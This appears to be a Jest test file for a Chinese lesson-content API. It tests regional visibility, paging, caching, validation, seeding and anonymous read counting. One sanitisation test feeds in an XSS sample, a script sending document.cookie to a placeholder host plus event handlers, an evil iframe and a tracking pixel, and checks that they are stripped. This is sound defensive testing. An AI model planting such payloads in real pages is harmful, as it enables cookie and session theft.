import { AUDIENCES } from '@hulei/shared';
import { chinaDate } from '../common/china-date';
import { scopeOf } from '../common/jurisdiction/scope';
import type { Cadre } from '../identity/auth/cadre';
import { MarketsService } from '../markets/markets.service';
import { startTestApp, type TestApp } from '../testing/test-app';
import { ContentItem } from './content-item.entity';
import { ContentService, type NewContentItem } from './content.service';
import { STARTER_ARTICLES } from './starter';

interface Summary {
  id: string;
  title: string;
  audience: string;
  ownerRegionCode: string | null;
  publishedAt: string;
}

describe('content API (public lessons)', () => {
  let t: TestApp;
  let service: ContentService;
  const local: Record<string, ContentItem> = {};

  const lesson = (overrides: Partial<NewContentItem>): NewContentItem => ({
    kind: 'article',
    audience: 'parent',
    title: '本地课程',
    summary: '一句话介绍',
    bodyHtml: '<p>正文</p>',
    ...overrides,
  });

  beforeAll(async () => {
    // Behind one trusted proxy, so a test can read from an address of its own (rate limits).
    t = await startTestApp({ env: { HULEI_TRUST_PROXY: '1' } });
    service = t.app.get(ContentService);
    await service.seedStarter();
    const published = { status: 'published' as const };
    local.county = await service.createItem(
      lesson({ ...published, title: '沅陵县：赶集普法日安排', ownerRegionCode: '431222' }),
    );
    local.city = await service.createItem(
      lesson({ ...published, title: '怀化市：暑期防溺水提醒', ownerRegionCode: '4312' }),
    );
    local.province = await service.createItem(
      lesson({ ...published, title: '湖南省：留守儿童关爱行动', ownerRegionCode: '43' }),
    );
    local.otherCounty = await service.createItem(
      lesson({ ...published, title: '辰溪县：本县课程', ownerRegionCode: '431223' }),
    );
    local.draft = await service.createItem(lesson({ title: '还在写的草稿' }));
    local.inReview = await service.createItem(lesson({ title: '等待审核', status: 'in_review' }));
    local.withdrawn = await service.createItem(lesson({ title: '已下架的课程', status: 'withdrawn' }));
  });
  afterAll(() => t.close());

  async function listAll(query: Record<string, string>): Promise<{ items: Summary[]; total: number }> {
    const res = await t
      .http()
      .get('/api/content')
      .query({ pageSize: '100', ...query })
      .expect(200);
    return res.body;
  }

  it('serves the starter lessons of every audience, each readable in full', async () => {
    for (const audience of AUDIENCES) {
      const starter = STARTER_ARTICLES.filter((a) => a.audience === audience);
      const page = await listAll({ audience });
      expect(page.total).toBe(starter.length);
      // The first lesson of the starter file comes first: lists are newest first and the seed orders them so.
      expect(page.items.map((i) => i.title)).toEqual(starter.map((a) => a.title));
      for (const summary of page.items) {
        expect(summary).toMatchObject({ audience, ownerRegionCode: null, kind: 'article' });
        expect(summary).not.toHaveProperty('bodyHtml');
      }
      const first = await t.http().get(`/api/content/${page.items[0].id}`).expect(200);
      expect(first.body).toMatchObject({ title: starter[0].title, summary: starter[0].summary, audience });
      expect(first.body.bodyHtml).toBe(starter[0].bodyHtml);
      expect(Date.parse(first.body.publishedAt)).not.toBeNaN();
    }
    const all = await listAll({ kind: 'article' });
    expect(all.total).toBe(STARTER_ARTICLES.length);
  });

  it("shows a village the national lessons and those of its county, city and province, not another county's", async () => {
    const village = await listAll({ audience: 'parent', regionCode: '431222114200' });
    const titles = village.items.map((i) => i.title);
    expect(titles).toEqual(
      expect.arrayContaining([local.county.title, local.city.title, local.province.title, ...parentStarterTitles()]),
    );
    expect(titles).not.toContain(local.otherCounty.title);
    expect(village.total).toBe(parentStarterTitles().length + 3);
    // Newest first: the local items were published after the starter seed.
    expect(titles.slice(0, 3).sort()).toEqual([local.county.title, local.city.title, local.province.title].sort());

    const neighbour = await listAll({ audience: 'parent', regionCode: '431223101200' });
    expect(neighbour.items.map((i) => i.title)).toEqual(
      expect.arrayContaining([local.otherCounty.title, local.city.title, local.province.title]),
    );
    expect(neighbour.items.map((i) => i.title)).not.toContain(local.county.title);

    const nationalOnly = await listAll({ audience: 'parent' });
    expect(nationalOnly.items.every((i) => i.ownerRegionCode === null)).toBe(true);
    const townView = await listAll({ audience: 'parent', regionCode: '431222114' });
    expect(townView.total).toBe(village.total);
  });

  it('pages through the list', async () => {
    const all = await listAll({ audience: 'child_6_8' });
    const second = await t
      .http()
      .get('/api/content')
      .query({ audience: 'child_6_8', page: 2, pageSize: 2 })
      .expect(200);
    expect(second.body.total).toBe(all.total);
    expect(second.body.items.map((i: Summary) => i.id)).toEqual(all.items.slice(2, 4).map((i) => i.id));
    const beyond = await t.http().get('/api/content').query({ audience: 'child_6_8', page: 99 }).expect(200);
    expect(beyond.body).toEqual({ items: [], total: all.total });
  });

  it('answers drafts, lessons in review, withdrawn, unknown and malformed ids with 404 and the error body', async () => {
    const lists = await listAll({ audience: 'parent' });
    const listed = lists.items.map((i) => i.title);
    for (const hidden of [local.draft, local.inReview, local.withdrawn]) {
      expect(listed).not.toContain(hidden.title);
      const res = await t.http().get(`/api/content/${hidden.id}`).expect(404);
      expect(res.body).toEqual({ statusCode: 404, code: 'NOT_FOUND', message: '没有找到这篇内容，它可能已经下架' });
      expect(res.headers['cache-control']).toBe('no-store');
    }
    await t.http().get('/api/content/00000000-0000-4000-8000-000000000000').expect(404);
    await t.http().get('/api/content/not-a-uuid').expect(404);
  });

  it('lets phones cache lessons for five minutes and revalidate them with the ETag', async () => {
    const list = await t.http().get('/api/content').query({ audience: 'child_9_12' }).expect(200);
    expect(list.headers['cache-control']).toBe('public, max-age=300');
    const etag = list.headers.etag;
    expect(etag).toBeTruthy();
    const again = await t
      .http()
      .get('/api/content')
      .query({ audience: 'child_9_12' })
      .set('If-None-Match', etag)
      .expect(304);
    expect(again.text).toBe('');

    const id = list.body.items[0].id;
    const one = await t.http().get(`/api/content/${id}`).expect(200);
    expect(one.headers['cache-control']).toBe('public, max-age=300');
    await t.http().get(`/api/content/${id}`).set('If-None-Match', one.headers.etag).expect(304);
    // A different answer has a different tag: the old one no longer matches.
    const other = await t
      .http()
      .get('/api/content')
      .query({ audience: 'parent' })
      .set('If-None-Match', etag)
      .expect(200);
    expect(other.headers.etag).not.toBe(etag);
  });

  it('rejects an unknown audience or kind, a malformed region code and an oversized page with 400 naming the field', async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ audience: 'adult' }, 'audience'],
      [{ kind: 'game' }, 'kind'],
      [{ regionCode: '4312x' }, 'regionCode'],
      [{ regionCode: '12345' }, 'regionCode'],
      [{ pageSize: '101' }, 'pageSize'],
      [{ page: '0' }, 'page'],
      [{ sort: 'title' }, 'sort'],
    ];
    for (const [query, field] of cases) {
      const res = await t.http().get('/api/content').query(query).expect(400);
      expect(res.body).toMatchObject({ statusCode: 400, code: 'VALIDATION_FAILED' });
      expect(res.body.errors[0].field).toBe(field);
    }
  });

  it('sanitises a body on write: scripts, handlers, iframes, trackers and non-https images are gone', async () => {
    const dirty =
      '<h3 onclick="steal()">标题</h3><p style="color:red">要说“不”<script>fetch("https://t.example/?c="+document.cookie)</script></p>' +
      '<iframe src="https://evil.example/x"></iframe><img src="http://cdn.example/a.png"><img src="https://t.example/p.gif" width="1" height="1">' +
      '<img src="https://cdn.example/ok.png" onerror="steal()" alt="插图"><a href="https://evil.example">加我</a>';
    const item = await service.createItem(
      lesson({ title: '净化测试', bodyHtml: dirty, status: 'published', ownerRegionCode: '431299' }),
    );
    const res = await t.http().get(`/api/content/${item.id}`).expect(200);
    expect(res.body.bodyHtml).toBe(
      '<h3>标题</h3><p>要说“不”</p><img src="https://cdn.example/ok.png" alt="插图" />加我',
    );
    const [stored] = await t.dataSource.query('SELECT body_html FROM content_item WHERE id = ?', [item.id]);
    expect(stored.body_html).toBe(res.body.bodyHtml);
    for (const gone of ['script', 'onclick', 'onerror', 'iframe', 'style', 'http://', 'p.gif', 'href']) {
      expect(stored.body_html).not.toContain(gone);
    }
  });

  it('refuses a lesson whose body is empty once sanitised, or whose media is not https', async () => {
    await expect(service.createItem(lesson({ bodyHtml: '<script>x()</script>' }))).rejects.toMatchObject({
      code: 'VALIDATION_FAILED',
      errors: [{ field: 'bodyHtml', message: '正文不能为空' }],
    });
    await expect(service.createItem(lesson({ coverUrl: 'http://cdn.example/c.png' }))).rejects.toMatchObject({
      errors: [{ field: 'coverUrl', message: '必须是 https 地址' }],
    });
    await expect(service.createItem(lesson({ kind: 'video' }))).rejects.toMatchObject({
      errors: [{ field: 'videoUrl', message: '视频需要视频地址' }],
    });
  });

  it('seeds again without duplicates, updates a changed text and leaves a withdrawn lesson withdrawn', async () => {
    const again = await service.seedStarter();
    expect(again).toEqual({ inserted: 0, updated: 0, unchanged: STARTER_ARTICLES.length });

    const [first, second] = STARTER_ARTICLES;
    await t.dataSource.query("UPDATE content_item SET status = 'withdrawn' WHERE slug = ?", [second.slug]);
    const revised = [{ ...first, title: `${first.title}（修订）` }, second, ...STARTER_ARTICLES.slice(2)];
    const newLesson = { ...first, slug: 'c68-new-lesson', title: '新增的课程' };
    const counts = await service.seedStarter([...revised, newLesson]);
    expect(counts).toEqual({ inserted: 1, updated: 1, unchanged: STARTER_ARTICLES.length - 1 });

    const rows: Array<{ slug: string; n: number | string }> = await t.dataSource.query(
      'SELECT slug, COUNT(*) AS n FROM content_item WHERE slug IS NOT NULL GROUP BY slug',
    );
    expect(rows.every((r) => Number(r.n) === 1)).toBe(true);
    expect(rows).toHaveLength(STARTER_ARTICLES.length + 1);
    const [withdrawn] = await t.dataSource.query('SELECT status FROM content_item WHERE slug = ?', [second.slug]);
    expect(withdrawn.status).toBe('withdrawn');
    const list = await listAll({ audience: first.audience });
    expect(list.items.map((i) => i.title)).toContain(`${first.title}（修订）`);
    expect(list.items.map((i) => i.title)).not.toContain(second.title);

    // Put the starter text back for the other tests of this file.
    await service.seedStarter();
    await t.dataSource.query("UPDATE content_item SET status = 'published' WHERE slug = ?", [second.slug]);
    await t.dataSource.query("DELETE FROM content_item WHERE slug = 'c68-new-lesson'");
  });

  describe('counting lesson reads (课件阅读)', () => {
    const VILLAGE = '431222114200';
    const TOWN = '431222114';
    const read = (id: string, body?: object, address = '203.0.113.10') => {
      const req = t.http().post(`/api/content/${id}/reads`).set('X-Forwarded-For', address);
      return body === undefined ? req : req.send(body);
    };
    const rowsOf = async (id: string): Promise<Array<Record<string, unknown>>> =>
      t.dataSource.query('SELECT * FROM lesson_read WHERE content_id = ? ORDER BY region_code', [id]);

    /** A market day in 官庄镇, created by its county federation. */
    async function marketDay(): Promise<string> {
      const organiser: Cadre = {
        accountId: '00000000-0000-4000-8000-00000000b001',
        sessionId: 'content-spec',
        name: '县妇联',
        role: 'federation_county',
        regionCode: '431222',
        level: 'county',
        scope: scopeOf('431222'),
      };
      const event = await t.app.get(MarketsService).create(organiser, {
        marketName: '官庄集',
        townCode: TOWN,
        date: chinaDate(),
        startTime: '08:00',
        endTime: '12:00',
        organisers: '县妇联',
      });
      return event.id;
    }

    it('counts each read in a daily row per region, the market’s town when she gave none, and keeps nothing about her', async () => {
      const id = local.county.id;
      const eventId = await marketDay();
      for (let i = 0; i < 3; i += 1) await read(id, { regionCode: VILLAGE }).expect(204);
      await read(id, { regionCode: TOWN }).expect(204);
      await read(id, { marketEventId: eventId }).expect(204);
      await read(id, { marketEventId: eventId.toUpperCase() }).expect(204);
      // Her own region wins over the market's town.
      await read(id, { regionCode: VILLAGE, marketEventId: eventId }).expect(204);
      await read(id, {}).expect(204);
      await read(id).expect(204);

      const rows = await rowsOf(id);
      for (const row of rows) {
        // A counter and where: no openid, address, user agent, device or time of a read.
        expect(Object.keys(row).sort()).toEqual([
          'city_code',
          'content_id',
          'county_code',
          'day',
          'province_code',
          'read_count',
          'region_code',
          'town_code',
          'village_code',
        ]);
        expect(JSON.stringify(row)).not.toContain('203.0.113.10');
      }
      const plain = rows.map((r) => ({ ...r, read_count: Number(r.read_count) }));
      const day = chinaDate();
      const path = { province_code: '43', city_code: '4312', county_code: '431222' };
      expect(plain).toEqual([
        // No region: counted, but in no region's report.
        {
          content_id: id,
          day,
          region_code: '',
          province_code: null,
          city_code: null,
          county_code: null,
          town_code: null,
          village_code: null,
          read_count: 2,
        },
        { content_id: id, day, region_code: TOWN, ...path, town_code: TOWN, village_code: null, read_count: 3 },
        { content_id: id, day, region_code: VILLAGE, ...path, town_code: TOWN, village_code: VILLAGE, read_count: 4 },
      ]);
    });

    it('answers drafts, lessons in review, withdrawn, unknown and malformed ids with 404, counting nothing', async () => {
      for (const hidden of [local.draft, local.inReview, local.withdrawn]) {
        const res = await read(hidden.id, { regionCode: VILLAGE }).expect(404);
        expect(res.body).toEqual({ statusCode: 404, code: 'NOT_FOUND', message: '没有找到这篇内容，它可能已经下架' });
        expect(await rowsOf(hidden.id)).toEqual([]);
      }
      await read('00000000-0000-4000-8000-000000000000').expect(404);
      await read('not-a-uuid').expect(404);
    });

    it('refuses an unknown field, a malformed or unknown region and an unknown market event with 400 naming the field', async () => {
      const id = local.city.id;
      const cases: Array<[object, string, string?]> = [
        [{ openid: 'o6_bmjrPTlm6_2sgVt7hMZOPfL2M' }, 'openid'],
        [{ regionCode: '4312x' }, 'regionCode'],
        [{ regionCode: '431299999999' }, 'regionCode', '没有这个区划'],
        [{ marketEventId: 'market-1' }, 'marketEventId'],
        [{ marketEventId: '00000000-0000-4000-8000-000000000000' }, 'marketEventId', '没有这场赶集活动'],
      ];
      for (const [body, field, message] of cases) {
        const res = await read(id, body).expect(400);
        expect(res.body).toMatchObject({ statusCode: 400, code: 'VALIDATION_FAILED' });
        expect(res.body.errors[0].field).toBe(field);
        if (message) expect(res.body.errors[0].message).toBe(message);
      }
      expect(await rowsOf(id)).toEqual([]);
    });

    it('counts 120 reads from one address in ten minutes, then asks it kindly to wait', async () => {
      const id = local.province.id;
      for (let i = 0; i < 120; i += 1) await read(id, { regionCode: VILLAGE }, '198.51.100.7').expect(204);
      const refused = await read(id, { regionCode: VILLAGE }, '198.51.100.7').expect(429);
      expect(refused.body).toMatchObject({
        statusCode: 429,
        code: 'RATE_LIMITED',
        message: '阅读记录太频繁了，请过几分钟再试；课程照样可以看',
      });
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
      // Another address is not held back; the refused read was not counted.
      await read(id, { regionCode: VILLAGE }, '198.51.100.8').expect(204);
      const [row] = await rowsOf(id);
      expect(Number(row.read_count)).toBe(121);
    });
  });
});

function parentStarterTitles(): string[] {
  return STARTER_ARTICLES.filter((a) => a.audience === 'parent').map((a) => a.title);
}
